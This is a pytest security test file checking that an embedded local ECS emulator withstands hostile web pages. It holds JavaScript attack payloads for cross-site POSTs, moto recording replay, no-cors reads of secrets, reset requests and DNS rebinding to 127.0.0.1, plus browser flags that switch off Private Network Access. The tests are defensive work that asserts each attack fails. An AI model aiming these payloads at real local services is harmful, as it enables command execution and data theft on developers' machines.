"""A hostile web page, in a real browser, against the embedded ECS on the developer's machine.

Any page the developer opens can make the browser send requests to 127.0.0.1: "simple"
cross-site requests (a text/plain POST, an <img>, a form) go out without asking the server
first, and a name a hostile DNS re-points at 127.0.0.1 (DNS rebinding) makes the page the same
origin as the server. The embedded ECS runs commands as the developer, so none of that may
launch a task, read its data or reset it. Each test serves the attacker's page from another
loopback port (or under a rebound name), lets Chromium run it against an embedded ECS in a
process of its own, then checks on the server's side that no task was launched and nothing was
reset, and that what the page sent home holds nothing it read there.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from ecs_pipelines.demo.seed import DEMO_CLUSTER
from ecs_pipelines_tests.local.dedicated import DedicatedServer
from ecs_pipelines_tests.local.hostile_site import (
    CONTROL,
    REPORTED,
    HostileSite,
    hostile_page,
    hostile_site,
)
from ecs_pipelines_tests.local.local_ecs_tools import NETWORK, run_task, wait_for_status
from ecs_pipelines_tests.support.browser import browser_page

RUN_TASK_TARGET = "AmazonEC2ContainerServiceV20141113.RunTask"
# The headers of a RunTask as an SDK sends it (the signature is made up: a page has no keys).
RUN_TASK_HEADERS = {
    "X-Amz-Target": RUN_TASK_TARGET,
    "Content-Type": "application/x-amz-json-1.1",
    "Authorization": "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20250101/us-east-1/ecs/"
    "aws4_request, SignedHeaders=host;x-amz-target, Signature=00",
}
# Chromium's Private Network Access refuses a public page's requests to loopback; Firefox and
# Safari do not, nor did Chromium before it: the server must hold without it.
WITHOUT_PRIVATE_NETWORK_ACCESS = (
    "--disable-features=BlockInsecurePrivateNetworkRequests,"
    "PrivateNetworkAccessSendPreflights,LocalNetworkAccessChecks"
)
REBOUND_NAME = "rebind.test"


@dataclass(frozen=True)
class Target:
    """The embedded ECS under attack (in its own process) and clients to check it with."""

    url: str
    ecs: Any
    server: DedicatedServer

    @property
    def port(self) -> int:
        return int(self.url.rsplit(":", 1)[1])

    def launched(self, started_by: str) -> list[str]:
        """Every task (running or stopped) started with ``started_by``."""
        return [
            arn
            for status in ("RUNNING", "STOPPED")
            for arn in self.ecs.list_tasks(
                cluster=DEMO_CLUSTER, startedBy=started_by, desiredStatus=status
            )["taskArns"]
        ]


@pytest.fixture
def target(dedicated_server: DedicatedServer) -> Target:
    return Target(dedicated_server.endpoint_url, dedicated_server.client("ecs"), dedicated_server)


@pytest.fixture
def hostile() -> Iterator[HostileSite]:
    with hostile_site() as site:
        yield site


def run_task_body(started_by: str) -> str:
    """The JSON of a RunTask that would run a command on the developer's machine."""
    return json.dumps(
        {
            "cluster": DEMO_CLUSTER,
            "taskDefinition": "ecs-pipelines-python",
            "launchType": "FARGATE",
            "startedBy": started_by,
            "networkConfiguration": NETWORK,
            "overrides": {
                "containerOverrides": [
                    {"name": "main", "command": ["python", "-c", "print('launched by a page')"]}
                ]
            },
        }
    )


def visit(site: HostileSite, path: str, page_html: str, extra_args: tuple[str, ...] = ()) -> None:
    """Open ``page_html`` (served by ``site`` at ``path``) in Chromium until it reported."""
    site.pages[path] = page_html
    with browser_page(extra_args=extra_args) as page:
        page.goto(site.url + path)
        page.wait_for_function(REPORTED, timeout=30_000)


LAUNCH = """
const recording = JSON.stringify(
  {method: "POST", url: TARGET + "/", headers: HEADERS, body: RUN_TASK, body_encoded: false});
await attempt("upload recording", () => read(TARGET + "/moto-api/recorder/upload-recording",
  {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: recording}));
await attempt("replay recording", () => image(TARGET + "/moto-api/recorder/replay-recording"));
await attempt("text/plain post", () => read(TARGET + "/",
  {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: RUN_TASK}));
await attempt("form post", () => formPost(TARGET + "/", RUN_TASK));
await attempt("preflighted post", () => read(TARGET + "/",
  {method: "POST", headers: HEADERS, body: RUN_TASK}));
await report(HOME);
"""


def test_a_hostile_page_cannot_launch_a_task(target: Target, hostile: HostileSite) -> None:
    """A page on another origin launches no task: not by uploading a recorded RunTask to moto's
    recorder and replaying it with an <img>, not by text/plain or form POSTs of a RunTask, not
    by a RunTask with the SDK's headers (its preflight gets no grant)."""
    marker = f"hostile-{uuid.uuid4().hex[:12]}"
    page_html = hostile_page(
        LAUNCH,
        TARGET=target.url,
        HOME=hostile.url,
        HEADERS=RUN_TASK_HEADERS,
        RUN_TASK=run_task_body(marker),
    )
    visit(hostile, "/launch.html", page_html)
    report = hostile.report()
    assert report["control"] == CONTROL
    assert target.launched(marker) == [], report


READ = """
for (const [name, url] of [["data.json", TARGET + "/moto-api/data.json"],
                           ["task page", TASK_PAGE], ["health", TARGET + "/_local/health"]]) {
  await attempt(name + " (cors)", () => read(url));
  await attempt(name + " (no-cors)", () => read(url, {mode: "no-cors"}));
}
await report(HOME);
"""


def test_a_hostile_page_cannot_read_the_servers_data(target: Target, hostile: HostileSite) -> None:
    """A page on another origin reads nothing of the server: not moto's data.json (every model,
    secret values included), not a task page, in cors mode or not."""
    secret = f"secret-{uuid.uuid4().hex}"
    shown = f"shown-{uuid.uuid4().hex}"
    secrets = target.server.client("secretsmanager")
    secrets.create_secret(Name="hostile-page-secret", SecretString=secret)
    task = run_task(target.ecs, command=["python", "-c", "pass"], environment={"SHOWN": shown})
    task_page = (
        f"{target.url}/_local/tasks/{task['taskArn'].rsplit('/', 1)[-1]}"
        f"?cluster={DEMO_CLUSTER}&region=us-east-1"
    )
    page_html = hostile_page(READ, TARGET=target.url, HOME=hostile.url, TASK_PAGE=task_page)
    visit(hostile, "/read.html", page_html)
    report = hostile.report()
    assert report["control"] == CONTROL
    read = "\n".join(report.values())
    assert secret not in read and shown not in read, report
    assert '"status": "ok"' not in read, report


RESET = """
await attempt("moto reset", () => read(TARGET + "/moto-api/reset",
  {method: "POST", mode: "no-cors"}));
await attempt("text/plain reset", () => read(TARGET + "/_local/reset",
  {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: "reset"}));
await attempt("form reset", () => formPost(TARGET + "/_local/reset", "{}"));
await attempt("preflighted reset", () => read(TARGET + "/_local/reset",
  {method: "POST", headers: {"X-Ecs-Pipelines-Action": "reset"}}));
await report(HOME);
"""


def test_a_hostile_page_cannot_reset_the_server(target: Target, hostile: HostileSite) -> None:
    """A page on another origin cannot reset the server: its running task keeps running and
    its cluster stays, whatever reset request the page sends."""
    task = run_task(
        target.ecs, command=["python", "-c", "import time; time.sleep(60)"], startedBy="victim"
    )
    wait_for_status(target.ecs, task["taskArn"], "RUNNING")
    visit(hostile, "/reset.html", hostile_page(RESET, TARGET=target.url, HOME=hostile.url))
    report = hostile.report()
    assert report["control"] == CONTROL
    assert len(target.ecs.list_clusters()["clusterArns"]) == 1, report
    described = target.ecs.describe_tasks(cluster=DEMO_CLUSTER, tasks=[task["taskArn"]])
    assert [t["lastStatus"] for t in described["tasks"]] == ["RUNNING"], report
    target.ecs.stop_task(cluster=DEMO_CLUSTER, task=task["taskArn"])


REBOUND = """
await attempt("run task", () => read("/", {method: "POST", headers: HEADERS, body: RUN_TASK}));
await attempt("task page", () => read(TASK_PAGE_PATH));
await attempt("health", () => read("/_local/health"));
await attempt("own page", () => read(location.pathname));
await report(HOME);
"""


def test_a_name_rebound_to_loopback_is_refused(target: Target, hostile: HostileSite) -> None:
    """A page whose name a hostile DNS re-points at 127.0.0.1 (same origin as the server, so
    free to send any header and read any answer) launches no task and reads nothing: the
    server answers only its own loopback names, whatever the page sends."""
    marker = f"rebound-{uuid.uuid4().hex[:12]}"
    task = run_task(target.ecs, command=["python", "-c", "pass"], startedBy="victim")
    ident = task["taskArn"].rsplit("/", 1)[-1]
    origin = f"http://{REBOUND_NAME}:{target.port}"
    page_html = hostile_page(
        REBOUND,
        HOME=hostile.url,
        HEADERS=RUN_TASK_HEADERS,
        RUN_TASK=run_task_body(marker),
        TASK_PAGE_PATH=f"/_local/tasks/{ident}?cluster={DEMO_CLUSTER}&region=us-east-1",
    )
    resolve = f"--host-resolver-rules=MAP {REBOUND_NAME} 127.0.0.1"
    with browser_page(extra_args=(resolve, WITHOUT_PRIVATE_NETWORK_ACCESS)) as page:
        # The name first led to the attacker's server, which served this page; from now on it
        # leads to 127.0.0.1, where the embedded ECS listens on the same port.
        page.route(
            f"{origin}/rebound.html",
            lambda route: route.fulfill(body=page_html, content_type="text/html"),
        )
        page.goto(f"{origin}/rebound.html")
        page.wait_for_function(REPORTED, timeout=30_000)
        report = hostile.report()
        direct = page.goto(f"{origin}/_local/health")
    assert report.pop("own page") == page_html  # what the page could read, it reported
    assert target.launched(marker) == [], report
    assert ident not in "\n".join(report.values()), report
    assert "clusterArns" not in report["run task"], report
    assert '"status": "ok"' not in report["health"], report
    assert direct is not None and direct.status == 400  # refused before any route
